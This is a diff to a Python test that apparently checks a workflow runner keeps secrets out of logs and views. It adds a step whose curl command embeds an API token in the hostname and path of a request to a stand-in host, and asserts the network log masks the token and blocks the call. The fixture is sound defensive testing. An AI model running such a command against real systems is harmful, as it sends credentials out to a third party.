@@ -64,6 +64,10 @@ def test_no_record_or_view_holds_a_secret(project: Project) -> None:
             needs: [list]
             for_each: "{{ steps.list.outputs['list.json'] | from_json }}"
             run: "true"
+          - id: net
+            secrets: [API_TOKEN]
+            network: ["127.0.0.1:9"]
+            run: curl -s -m 10 "http://$API_TOKEN.example/$API_TOKEN" -o /dev/null || true
           - id: keyed
             needs: [speak]
             for_each: [1]
@@ -87,6 +91,8 @@ def test_no_record_or_view_holds_a_secret(project: Project) -> None:
     ]
     for v in views:
         assert token not in v.out + v.err
+    net_log = (project.item("leak1", "net") / "meta/attempts/1/network.jsonl").read_text()
+    assert "********" in net_log and "not in allowlist" in net_log
     data = (project.item("leak1", "list") / "work/out/list.json",)
     assert token in data[0].read_text()
     leaks = _leaks(project.root, token.encode(), data)
